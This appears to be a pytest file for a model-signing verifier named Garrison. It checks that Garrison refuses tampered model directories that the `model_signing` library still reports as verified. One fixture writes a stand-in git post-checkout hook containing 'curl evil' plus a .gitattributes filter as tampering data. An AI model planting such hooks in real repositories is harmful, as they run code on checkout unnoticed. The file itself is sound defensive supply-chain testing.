"""What verification by `model_signing` lets pass without a word, and Garrison refuses: both are asked each time."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from tests.fakes import peer_sign
from tests.fakes.releases import FILES, SignedDirectory, public_of, sign_directory, write_files

from garrison.client import verify_model
from garrison.core.errors import GarrisonError
from garrison.trust.directory import verify_bundle
from garrison.trust.keys.file import FileSigner
from garrison.trust.keys.public import load_public

SIGNER = FileSigner("release")
PLAIN = {path: content for path, content in FILES.items() if not path.startswith(".git")}

# The peer's own verification of several directories, in one process: it takes a second to import.
PEER = """
import json, sys
from pathlib import Path
from model_signing import hashing, verifying
answers = {}
for name, (model, signature, key) in json.loads(sys.argv[1]).items():
    try:
        config = verifying.Config().use_elliptic_key_verifier(public_key=Path(key))
        if "shards" in signature:  # it cannot read the size of shards back out of its own signature
            config.set_hashing_config(hashing.Config().use_shard_serialization(shard_size=1000))
        config.verify(Path(model), Path(signature))
        answers[name] = "verified"
    except Exception as error:
        answers[name] = repr(error)
print(json.dumps(answers))
"""


def ask_peer(cases: dict[str, tuple[Path, Path, Path]]) -> dict[str, str]:
    words = json.dumps({name: [str(path) for path in paths] for name, paths in cases.items()})
    done = subprocess.run(
        [sys.executable, "-W", "ignore", "-c", PEER, words],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    answers: dict[str, str] = json.loads(done.stdout)
    return answers


def _git_content(model: Path) -> None:
    write_files(model, {".git/hooks/post-checkout": b"#!/bin/sh\ncurl evil", ".gitattributes": b"* filter=x"})


def _empty_directory(model: Path) -> None:
    (model / "plugins").mkdir()


def _mode(model: Path) -> None:
    (model / "config.json").chmod(0o777)


def _nothing(_model: Path) -> None: ...


OURS = {  # signed by us, with a release statement
    "unsigned content of .git": (_git_content, "ART-TAMPER"),
    "an empty directory": (_empty_directory, "ART-TAMPER"),
    "a mode": (_mode, "ART-TAMPER"),
    "a renamed directory": (_nothing, "ART-NAME"),
}


@pytest.fixture(scope="module")
def ours(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[SignedDirectory, str]]:
    """Each case changed after it was signed, and what the peer says to it."""
    root = tmp_path_factory.mktemp("ours")
    (root / "release.pem").write_bytes(SIGNER.public_pem())
    releases, asked = {}, {}
    for number, (case, (change, _)) in enumerate(OURS.items()):
        release = sign_directory(write_files(root / f"fraud{number}", PLAIN), "fraud@3", SIGNER)
        release.write_sidecars()
        change(release.path)
        releases[case] = release
        asked[case] = (release.path, root / f"fraud{number}.sig", root / "release.pem")
    answers = ask_peer(asked)
    return {case: (release, answers[case]) for case, release in releases.items()}


def ours_refuses(release: SignedDirectory, name: str = "fraud@3") -> str:
    with pytest.raises(GarrisonError) as caught:
        verify_model(release.path, name=name, trust=[public_of(SIGNER)])
    return caught.value.code


@pytest.mark.row("A04", kind="R")
@pytest.mark.row("A09", kind="R")
@pytest.mark.parametrize("case", [case for case, (_, code) in OURS.items() if code == "ART-TAMPER"])
def test_a_change_that_the_peer_does_not_see_is_refused(
    ours: dict[str, tuple[SignedDirectory, str]], case: str
) -> None:
    release, peer = ours[case]
    assert peer == "verified"
    assert ours_refuses(release) == OURS[case][1]


@pytest.mark.row("A06", kind="R")
def test_a_renamed_directory_does_not_become_another_model(
    ours: dict[str, tuple[SignedDirectory, str]], tmp_path: Path
) -> None:
    release, peer = ours["a renamed directory"]
    assert peer == "verified"
    renamed = tmp_path / "credit"
    shutil.copytree(release.path, renamed)
    for suffix in (".sig", ".release.json"):
        shutil.copy(release.path.with_name(release.path.name + suffix), tmp_path / f"credit{suffix}")
    (tmp_path / "release.pem").write_bytes(SIGNER.public_pem())
    asked = {"renamed": (renamed, tmp_path / "credit.sig", tmp_path / "release.pem")}
    assert ask_peer(asked) == {"renamed": "verified"}
    with pytest.raises(GarrisonError) as caught:
        verify_model(renamed, name="credit@1", trust=[public_of(SIGNER)])
    assert caught.value.code == "ART-NAME"


@pytest.fixture(scope="module")
def theirs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """Signed by the peer, changed, and verified by the peer again."""
    root = tmp_path_factory.mktemp("theirs")
    # The peer signs shards of a file with a colon in its name, and then cannot read their names itself.
    files = {path: content for path, content in PLAIN.items() if ":" not in path}
    files |= {"notes.txt": b"read me", "__init__.py": b""}
    for case in ("ignored", "shards"):
        write_files(root / case, files)
    command = [sys.executable, "-W", "ignore", peer_sign.__file__, str(root)]
    subprocess.run(command, capture_output=True, timeout=120, check=True)
    shutil.copytree(root / "shards", root / "fewer")
    (root / "fewer" / "__init__.py").unlink()
    write_files(root / "ignored", {"notes.txt": b"import os"})
    write_files(root / "shards", {"sitecustomize.py": b""})
    key = root / "keys" / "p256.pem"
    cases = {"ignored": "ignored", "shards": "shards", "fewer": "shards"}
    answers = ask_peer({case: (root / case, root / f"{sig}.sig", key) for case, sig in cases.items()})
    return root, answers


@pytest.mark.row("A09", kind="R")
@pytest.mark.parametrize(("case", "signature"), [("ignored", "ignored"), ("shards", "shards")])
def test_a_file_that_the_signature_does_not_cover_is_refused(
    theirs: tuple[Path, dict[str, str]], case: str, signature: str
) -> None:
    """An ignore-listed file that was changed; an empty file that was added beside a bundle over shards."""
    root, peer = theirs
    assert peer[case] == "verified"
    with pytest.raises(GarrisonError) as caught:
        verify_bundle(root / case, root / f"{signature}.sig", [load_public(root / "keys" / "p256.pem")])
    assert caught.value.code == "ART-TAMPER"


@pytest.mark.row("A04", kind="R")
def test_a_removed_empty_file_that_shards_cannot_show_is_missing_in_our_statement(
    theirs: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    assert theirs[1]["fewer"] == "verified"
    release = sign_directory(write_files(tmp_path / "fraud", PLAIN), "fraud@3", SIGNER)
    release.write_sidecars()
    (release.path / "empty.bin").unlink()
    assert ours_refuses(release) == "ART-TAMPER"
